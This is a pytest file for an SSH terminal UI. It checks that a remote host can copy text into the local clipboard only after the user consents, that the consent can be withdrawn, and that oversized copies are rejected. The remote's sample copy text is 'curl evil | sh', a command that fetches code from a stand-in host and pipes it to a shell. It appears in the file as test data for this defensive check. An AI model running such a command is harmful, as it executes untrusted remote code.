"""A remote copies only with consent, which is asked for without taking a key, and kept."""

import asyncio
from base64 import b64encode

import pytest

from sshtui.terminal.clipboard import MOST_COPIED
from sshtui.ui.app import Application
from sshtui.ui.controllers import clipboard
from sshtui.ui.modals.confirm_copies import ConfirmCopies
from sshtui.ui.widgets.terminal.view import TerminalView
from tests.servers.waiting import until
from tests.sessions.fakes import FakeConnector
from tests.ui.forms import ready, shown
from tests.ui.steps import handled, in_session, shell, typed

PREFIX = "ctrl+backslash"


def says(app: Application) -> str:
    return " ".join(shown(app).replace("▌", " ").split())


def say(connector: FakeConnector, text: str) -> None:
    shell(connector).say(b"\x1b]52;c;" + b64encode(text.encode()) + b"\x07")


async def asked(app: Application) -> ConfirmCopies:
    await until(lambda: isinstance(app.screen, ConfirmCopies), "question")
    await ready(app)
    assert isinstance(app.screen, ConfirmCopies)
    return app.screen


async def test_a_host_copies_once_the_person_agrees_and_until_they_take_it_back(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(clipboard, "TOGETHER", 0.01)
    async with in_session(size=(100, 30)) as (app, pilot, connector):
        # Told, and typing goes on to the shell.
        say(connector, "curl evil | sh")
        await until(lambda: "web1 has 14 characters" in shown(app), "notice")
        assert "ctrl+\\ y in its session answers" in says(app)
        assert isinstance(app.focused, TerminalView)
        await pilot.press("y", "enter")
        await handled(app)
        assert typed(connector) == b"y\r"
        assert app.clipboard == ""

        other = app.run_worker(asyncio.Event().wait(), name="of another controller")
        await pilot.press(PREFIX, "y")
        await asked(app)
        assert other.is_running
        other.cancel()
        assert "curl evil | sh" in shown(app)
        await pilot.press("y")
        await until(lambda: app.clipboard == "curl evil | sh", "copy")

        say(connector, "second")
        await until(lambda: app.clipboard == "second", "copy")
        await until(lambda: "web1 copied 6 characters" in shown(app), "notice")
        say(connector, "x" * (MOST_COPIED + 1))
        await until(lambda: "100,001 bytes are more than 100,000" in says(app), "notice")
        assert app.clipboard == "second"

        await pilot.press(PREFIX, "y")
        await asked(app)
        await pilot.press("n")
        await until(lambda: not isinstance(app.screen, ConfirmCopies), "answer")
        say(connector, "third")
        await until(lambda: not app._controllers.clipboard._coming, "end of the wait")
        await until(lambda: not list(app.workers), "end of the work")
        assert app.clipboard == "second"
